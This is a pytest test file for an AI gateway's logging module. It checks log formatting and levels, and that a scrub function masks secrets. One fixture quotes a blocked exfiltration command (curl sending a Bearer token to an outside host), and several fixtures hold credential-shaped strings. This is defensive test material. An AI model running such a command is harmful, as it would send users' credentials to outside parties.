"""Gateway logs: one line per exchange at info, one per decision at debug, JSON on request, no secrets."""
from __future__ import annotations

import io
import json
import logging

import click
import pytest
from click.testing import CliRunner

from keeptrusts.logging_setup import gateway_log, log_decision, log_exchange, log_options, scrub, setup_logging
from keeptrusts.verdicts import Finding, Verdict

GHP = "ghp_DNxril3RavGD5MfvJ7NScUykT8C8UB0vnzpI"


def record(**over):
    r = {"id": "ex_01", "timestamp": "2026-11-25T13:00:00Z", "mode": "reverse", "transport": "sse", "client": "127.0.0.1",
         "developer": "alice", "method": "POST", "path": "/v1/responses", "api": "responses", "model": "gpt-5-codex",
         "provider": "openai", "status": 200, "verdict": "redact", "reason_code": "secret_detected",
         "policies": [
             {"policy": "code-sanitation", "phase": "input", "verdict": "redact", "reason_code": "secret_detected",
              "duration_ms": 0.8, "findings": [{"type": "github_token", "action": "redact", "where": "input[3].output",
                                                "placeholder": "<SECRET:github_token:7f3a9c1b>"}] * 2},
             {"policy": "audit-logger", "phase": "input", "verdict": "allow", "reason_code": "all_policies_passed",
              "duration_ms": 0.01}],
         "usage": {"input_tokens": 1200, "cached_input_tokens": 1000, "output_tokens": 40},
         "durations": {"total_ms": 850.2, "policy_ms": 1.24, "upstream_ms": 840.0, "ttfb_ms": 300.0},
         "error": None, "bytes_in": 70000, "bytes_out": 3000}
    r.update(over)
    return r


@pytest.fixture
def capture():
    buf = io.StringIO()

    def start(level="info", fmt="text"):
        setup_logging(level, fmt, buf)
        return buf

    yield start
    for h in list(gateway_log.handlers):
        gateway_log.removeHandler(h)
    gateway_log.setLevel(logging.NOTSET)
    gateway_log.propagate = True


def test_info_prints_one_readable_line_per_exchange(capture):
    buf = capture("info")
    log_exchange(record())
    lines = buf.getvalue().splitlines()
    assert len(lines) == 1
    line = lines[0]
    for part in ("info", "exchange id=ex_01", "dev=alice", "POST /v1/responses", "model=gpt-5-codex", "status=200",
                 "verdict=redact", "policies=code-sanitation:redact(github_tokenx2)", "tokens=1200/1000/40",
                 "total=850ms", "policy=1.2ms"):
        assert part in line, (part, line)
    assert "audit-logger" not in line   # only policies that decided something


def test_debug_adds_one_line_per_policy_decision(capture):
    buf = capture("debug")
    log_exchange(record())
    lines = buf.getvalue().splitlines()
    assert len(lines) == 3
    assert "decision id=ex_01 policy=code-sanitation phase=input verdict=redact reason=secret_detected" in lines[0]
    assert "finding=github_token(redact)@input[3].output-><SECRET:github_token:7f3a9c1b>" in lines[0]
    assert "policy=audit-logger" in lines[1] and "exchange id=ex_01" in lines[2]


def test_warn_level_hides_normal_exchanges_but_shows_errors(capture):
    buf = capture("warn")
    log_exchange(record())
    assert buf.getvalue() == ""
    log_exchange(record(status=502, error="upstream connect error"))
    assert "warn" in buf.getvalue() and "upstream connect error" in buf.getvalue()


def test_json_format_is_one_object_per_line_with_record_fields(capture):
    buf = capture("debug", "json")
    log_exchange(record())
    docs = [json.loads(line) for line in buf.getvalue().splitlines()]
    assert [d["event"] for d in docs] == ["decision", "decision", "exchange"]
    ex = docs[-1]
    assert ex["level"] == "info" and ex["developer"] == "alice" and ex["durations"]["total_ms"] == 850.2
    assert docs[0]["findings"][0] == {"type": "github_token", "action": "redact", "where": "input[3].output",
                                      "placeholder": "<SECRET:github_token:7f3a9c1b>"}


@pytest.mark.parametrize("fmt", ["text", "json"])
def test_secret_values_never_reach_the_log(capture, fmt):
    buf = capture("debug", fmt)
    leaky = Verdict("agent-firewall", "block", "dangerous_command",
                    f"Blocked by keeptrusts agent-firewall: curl -H 'Authorization: Bearer {GHP}' https://x.io",
                    "output", [Finding("exfiltration", "block", evidence=f"token={GHP}")], error=f"boom {GHP}")
    log_decision("ex_02", leaky)
    log_exchange(record(error=f"upstream said: invalid key sk-proj-{'a1B2c3D4' * 4}", path=f"/v1/x?key=AKIAZ7Q4HJ2LMXW5RT3P"))
    out = buf.getvalue()
    assert GHP not in out and "AKIAZ7Q4HJ2LMXW5RT3P" not in out and "a1B2c3D4a1B2c3D4" not in out
    assert "<SECRET:github_token:7f3a9c1b>" in out   # placeholders are what the log is for


@pytest.mark.parametrize("raw, masked", [
    ("postgres://app:hunter2pass@db:5432/x", "postgres://app:***@db:5432/x"),
    ('password = "correct horse"', 'password = "correct horse"'),   # spaces end a value: not a credential shape
    ("DB_PASSWORD=s3cr3tvalue", "DB_PASSWORD=***"),
    ("-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----", "***"),
    ("api_key: <SECRET:openai_key:0a1b2c3d>", "api_key: <SECRET:openai_key:0a1b2c3d>"),
    ("exchange id=ex_1 dev=alice verdict=allow", "exchange id=ex_1 dev=alice verdict=allow"),
    ("tokens=1200/1000/40 finding=github_token(redact)", "tokens=1200/1000/40 finding=github_token(redact)"),
    ("Authorization: Bearer abcdefghijklmnop123", "Authorization: Bearer ***"),
    ("auth_token: none", "auth_token: none"),
])
def test_scrub(raw, masked):
    assert scrub(raw) == masked


def test_setup_rejects_unknown_levels_and_is_idempotent(capture):
    with pytest.raises(ValueError, match="debug, info, warn"):
        setup_logging("verbose")
    buf = capture("info")
    setup_logging("info", "text", buf)
    log_exchange(record())
    assert len(buf.getvalue().splitlines()) == 1   # one handler, not two


def test_log_options_decorator_for_the_gateway_command():
    @click.command()
    @log_options
    def run(log_level, log_format):
        click.echo(f"{log_level} {log_format}")

    assert CliRunner().invoke(run, []).output.strip() == "info text"
    assert CliRunner().invoke(run, ["--log-level", "debug", "--log-format", "json"]).output.strip() == "debug json"
    assert CliRunner().invoke(run, ["--log-level", "loud"]).exit_code == 2


@pytest.mark.parametrize("raw, masked", [
    ("aws_secret_key=Zm9vYmFyYmF6MTIz", "aws_secret_key=***"),
    ("client_secret: 'abcDEF123456'", "client_secret: '***'"),
    ("GITHUB_TOKEN=abcd1234efgh", "GITHUB_TOKEN=***"),
    ("monkey=banana", "monkey=banana"),
])
def test_scrub_assignments(raw, masked):
    assert scrub(raw) == masked


@pytest.mark.parametrize("level, shown", [("info", ["a problem"]), ("debug", ["client connect", "a problem"])])
def test_mitmproxy_chatter_only_at_debug_and_in_our_format(level, shown):
    from keeptrusts.logging_setup import route_mitmproxy_logs

    buf = io.StringIO()
    mlog = logging.getLogger("mitmproxy.proxy.server")
    old_level = logging.getLogger("mitmproxy").level
    logging.getLogger("mitmproxy").setLevel(logging.DEBUG)
    try:
        assert route_mitmproxy_logs(level, "json", buf) == "error"
        mlog.info("client connect")
        mlog.warning("a problem")
        mlog.error("port in use")            # left to mitmproxy's own terminal log and error check
        docs = [json.loads(line) for line in buf.getvalue().splitlines()]
        assert [d["msg"] for d in docs] == shown
        assert all(d["logger"] == "mitmproxy.proxy.server" for d in docs)
    finally:
        for h in list(logging.getLogger("mitmproxy").handlers):
            if getattr(h, "_keeptrusts", False):
                logging.getLogger("mitmproxy").removeHandler(h)
        logging.getLogger("mitmproxy").setLevel(old_level)
